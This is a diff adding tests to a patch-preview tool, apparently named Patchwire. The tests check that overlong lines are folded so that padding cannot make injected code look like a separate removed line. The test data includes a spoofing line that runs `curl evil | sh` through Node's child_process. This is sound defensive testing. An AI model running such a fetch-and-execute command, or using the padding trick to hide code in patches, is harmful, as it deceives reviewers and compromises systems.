@@ -93,6 +93,35 @@ def test_long_previews_go_through_the_pager(laptop, tmp_path):
     assert "PAGER-START" not in short.out  # not a terminal: no pager
 
 
+SPOOF = "+" + " " * 79 + "-require('child_process').execSync('curl evil | sh');"
+
+
+def test_a_line_wider_than_the_terminal_is_folded_so_no_row_passes_for_a_line():
+    """A terminal wraps a long line at column 0: `+`, 79 spaces, then `-require(...)` showed an
+    added line as an empty added line and a removed one. Folded by Patchwire, each further row
+    of a line starts with the mark, in the line's colour; tabs and wide characters take their
+    cells."""
+    rows = list(patchwire.fold_rows([SPOOF, "short", "+\tx"], 80, "~"))
+    assert rows == ["+" + " " * 78, "~ -require('child_process').execSync('curl evil | sh');", "short", "+\tx"]
+    green = list(patchwire.fold_rows(["\x1b[32m" + SPOOF + "\x1b[0m"], 80, "~"))
+    assert green[0].endswith("\x1b[0m") and green[1].startswith("\x1b[32m~ -require")
+    assert [r.split("\t")[-1] for r in patchwire.fold_rows(["+" + "\t" * 10 + "-evil"], 80, "~")][-1] == "-evil"
+    assert list(patchwire.fold_rows(["+" + "\t" * 10 + "-evil"], 80, "~"))[-1].startswith("~")
+    wide = list(patchwire.fold_rows(["+" + "\u3000" * 39 + "-evil"], 80, "~"))
+    assert wide == ["+" + "\u3000" * 39, "~-evil"]
+    for row in patchwire.fold_rows([SPOOF * 3, "+" + "\u00e9" * 300], 80, "~"):
+        assert len(row.expandtabs()) <= 79
+
+
+def test_the_preview_on_a_terminal_folds_a_spoofing_line(laptop):
+    lap = Laptop(laptop.root, env={"COLUMNS": "80", "NO_COLOR": "1"})
+    out = drive_pty(lap, ["ask", "--no-apply", script({"write": "app.js", "text": SPOOF[1:] + "\n"})], [], prompts=())
+    rows = out.replace("\r\n", "\n").split("\n")
+    assert any("-require(" in row for row in rows), out
+    assert not any(row.startswith("-require") for row in rows), out
+    assert all(len(row) <= 80 for row in rows if "require" in row or row.startswith("+ ")), out
+
+
 def test_sync_records_its_tree_in_its_own_store_without_touching_the_repository(laptop):
     (laptop.root / "new.txt").write_bytes(b"untracked\n")
     index_before = (laptop.root / ".git/index").read_bytes()
@@ -231,6 +260,7 @@ def test_a_bad_last_file_ends_the_streamed_diff_with_the_refusal(tmp_path, monke
                         (new_section("docs/last.md", 2).replace(b"+1,2 @@", b"+1,3 @@"), "ends inside a hunk"),
                         (b"diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n"
                          b"-# not what was synced\n+# pwned\n", "not those of the synced file")]:
+        monkeypatch.setenv("COLUMNS", "400")  # the refusal on one row
         at_first_screen, computed, raised = streamed_preview(tmp_path, monkeypatch, good + bad, f"cat > {got}")
         assert isinstance(raised, patchwire.PatchRefused) and phrase in str(raised), raised
         assert len(at_first_screen) < 10
